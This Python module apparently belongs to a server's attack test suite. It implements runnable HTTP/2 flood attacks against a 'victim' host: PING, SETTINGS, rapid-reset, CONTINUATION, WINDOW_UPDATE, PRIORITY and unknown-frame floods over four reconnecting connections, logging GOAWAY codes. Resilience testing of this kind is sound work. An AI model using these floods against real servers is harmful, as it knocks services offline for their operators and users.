"""HTTP/2 frames that ask for nothing, or for what is taken back at once, as many as go through.

Four connections send without a pause; one that is ended is opened anew. ``ended`` says by what: the code of GOAWAY
(11 is ENHANCE_YOUR_CALM), or ``cut`` without any.
"""

from __future__ import annotations

import itertools
import select
import socket
import struct
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from functools import partial

from tests.attack.runner import Attack, Figures, Victim, main

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4

CONNECTIONS = 4
AT_ONCE = 1000
"""Frames in one write."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def request(stream: int, flags: int = END_STREAM | END_HEADERS, method: bytes = b"\x83") -> bytes:
    """The head of a POST to /, or of another method in HPACK."""
    return frame(HEADERS, flags, stream, method + b"\x86\x84\x01\x09localhost")


def _same(begin: bytes, one: bytes) -> Iterator[bytes]:
    yield begin
    yield from itertools.repeat(one * AT_ONCE)


def _resets() -> Iterator[bytes]:
    for first in itertools.count(1, 2 * AT_ONCE):
        streams = range(first, first + 2 * AT_ONCE, 2)
        yield b"".join(request(one) + frame(RST_STREAM, 0, one, b"\0\0\0\x08") for one in streams)


def last_goaway(data: bytes) -> int | None:
    """The code of a GOAWAY among frames that begin at a frame's beginning."""
    code = None
    while len(data) >= 9:
        size, kind = int.from_bytes(data[:3]), data[3]
        if kind == GOAWAY and len(data) >= 17:
            code = int.from_bytes(data[13:17])
        data = data[9 + size :]
    return code


class _Flood:
    def __init__(self, parts: Callable[[], Iterator[bytes]], victim: Victim, seconds: float, more_s: float) -> None:
        self.ended: Counter[str] = Counter()
        self.written = 0
        self._parts = parts
        self._victim = victim
        self._until_s = time.monotonic() + seconds
        self._at_most_s = self._until_s + more_s

    @property
    def _goes_on(self) -> bool:
        return time.monotonic() < (self._until_s if self.ended else self._at_most_s)

    def run(self) -> None:
        """Flood one connection after the other."""
        while self._goes_on:
            with socket.create_connection(self._victim.http_host, timeout=5) as sock:
                self.ended[self._one(sock)] += 1

    def _one(self, sock: socket.socket) -> str:
        sock.sendall(PREFACE)
        sock.setblocking(False)
        heard, parts, part = bytearray(), self._parts(), b""
        while self._goes_on:
            part = part or next(parts)
            readable, writable, _ = select.select([sock], [sock], [], 0.1)
            try:
                if readable:
                    news = sock.recv(1 << 20)
                    heard += news
                    if not news:
                        break
                if writable:
                    sent = sock.send(part)
                    self.written += sent
                    part = part[sent:]
            except BlockingIOError:
                continue
            except ConnectionError:
                break
        else:
            return "open"
        code = last_goaway(bytes(heard))
        return "cut" if code is None else str(code)


def flood(parts: Callable[[], Iterator[bytes]], victim: Victim, seconds: float, *, more_s: float = 0) -> Figures:
    """Flood by four clients; a while longer if none has been ended by then."""
    floods = [_Flood(parts, victim, seconds, more_s) for _ in range(CONNECTIONS)]
    threads = [threading.Thread(target=one.run, name="flood") for one in floods]
    for one in threads:
        one.start()
    for one in threads:
        one.join()
    ended: Counter[str] = sum((one.ended for one in floods), Counter())
    by = ",".join(f"{how}:{count}" for how, count in sorted(ended.items()))
    return {"connections": ended.total(), "ended": by, "written_mib": sum(one.written for one in floods) / (1 << 20)}


_OPEN = request(1, END_HEADERS)

FLOODS: dict[str, Attack] = {
    name: partial(flood, parts, more_s=10)
    for name, parts in {
        "ping": lambda: _same(b"", frame(PING, 0, 0, bytes(8))),
        "settings": lambda: _same(b"", frame(SETTINGS, 0, 0)),
        "large-settings": lambda: _same(b"", frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 65_535) * 200)),
        "reset": _resets,
        "empty-data": lambda: _same(_OPEN, frame(DATA, 0, 1)),
        "continuation": lambda: _same(request(1, 0), frame(CONTINUATION, 0, 1)),
        "priority": lambda: _same(b"", frame(PRIORITY, 0, 1, b"\0\0\0\0\x10")),
        "window": lambda: _same(_OPEN, frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\x01")),
        "unknown": lambda: _same(b"", frame(0xFE, 0, 0)),
    }.items()
}

if __name__ == "__main__":
    main(FLOODS)
